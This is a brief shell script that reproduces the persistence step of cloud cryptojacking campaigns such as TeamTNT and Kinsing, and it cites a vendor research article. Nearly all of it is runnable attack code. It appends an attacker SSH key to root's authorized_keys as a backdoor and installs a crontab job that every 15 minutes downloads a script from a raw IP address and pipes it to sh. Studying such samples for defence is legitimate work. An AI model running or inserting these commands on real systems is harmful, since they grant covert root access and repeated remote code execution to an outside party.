#!/bin/sh
# Incident pattern: cloud cryptojacking installers (TeamTNT and Kinsing, 2020-2021, and the
# Redis/Docker API campaigns) that persist by appending the attacker's SSH key to
# authorized_keys and a crontab entry that re-downloads and runs the payload.
# Reference: https://www.trendmicro.com/en_us/research/20/i/war-of-linux-cryptocurrency-miners-a-battle-for-resources.html
# Reproduction (own script, placeholder key and host).
mkdir -p /root/.ssh
chmod 700 /root/.ssh
echo "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIF3kq9Wc0Zc1b7Jd3n6mT2xYvB8pR4sL0aQe5hN7uKc2 ops@backup" >> /root/.ssh/authorized_keys
chmod 600 /root/.ssh/authorized_keys
(crontab -l 2>/dev/null; echo "*/15 * * * * curl -fsSL http://45.9.148.35/cr.sh | sh") | crontab -
